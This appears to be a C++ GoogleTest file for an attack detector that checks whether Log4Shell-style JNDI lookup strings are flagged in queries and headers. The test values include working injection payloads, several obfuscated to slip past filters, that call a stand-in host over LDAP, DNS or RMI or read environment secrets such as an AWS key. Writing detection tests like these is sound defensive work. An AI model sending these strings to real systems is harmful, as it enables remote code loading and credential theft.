#include <gtest/gtest.h>

#include <string>

#include "code/code_cases_test.h"

namespace quell::attack {
namespace {

class LookupAttack : public testing::TestWithParam<std::string_view> {};
TEST_P(LookupAttack, IsFound) {
  expect_found({.technique = Technique::kLookup, .value = GetParam()});
  expect_found({.technique = Technique::kLookup, .value = GetParam(), .where = Where::kHeader});
}
INSTANTIATE_TEST_SUITE_P(
    Spellings, LookupAttack,
    testing::Values("${jndi:ldap://x.example/a}", "Mozilla/5.0 ${jndi:dns://${hostName}.x.example}",
                    "${${lower:j}${lower:n}di:rmi://x.example}",
                    "${${::-j}${::-n}${::-d}${::-i}:x}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}",
                    "${j${k8s:k5:-ND}i:ldap://x/}",
                    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:x}", "${env:AWS_SECRET_KEY}",
                    "${sys:java.class.path}", "${script:javascript:7*7}",
                    "${url:UTF-8:http://x.example/}", "${JnDi:ldap://x}"));

class LookupLookAlike : public testing::TestWithParam<std::string_view> {};
TEST_P(LookupLookAlike, IsHarmless) {
  expect_no_code(Where::kQuery, GetParam());
}
INSTANTIATE_TEST_SUITE_P(Ordinary, LookupLookAlike,
                         testing::Values("log4j jndi: lookup", "${jndi", "${price}: 5", "${a:b}",
                                         "env:production", "${TM_USER_ID}:x", "$jndi:ldap",
                                         "{jndi:x}"));

TEST(Lookup, AHiddenNameWeighsMoreThanAPlainOne) {
  const auto score = [](std::string_view value) {
    return classify(Where::kHeader, value).top_score;
  };
  EXPECT_GT(score("${${lower:j}ndi:x}"), score("${jndi:x}"));
  EXPECT_GT(score("${jndi:x}"), score("${jndi:x"));
}

TEST(Lookup, HostileTextIsBounded) {
  for (const std::string_view piece : {"${", "${a:", "}", "${lower:", "${${::-", "$", "${}"}) {
    std::string text;
    while (text.size() < 60'000) text += piece;
    EXPECT_LE(classify(Where::kHeader, text + "}}}}").top_score, 1);
  }
  std::string deep;
  for (int i = 0; i < 60; ++i) deep += "${lower:";
  EXPECT_TRUE(classify(Where::kHeader, deep + "x" + std::string(60, '}')).is_attack());
}

}  // namespace
}  // namespace quell::attack
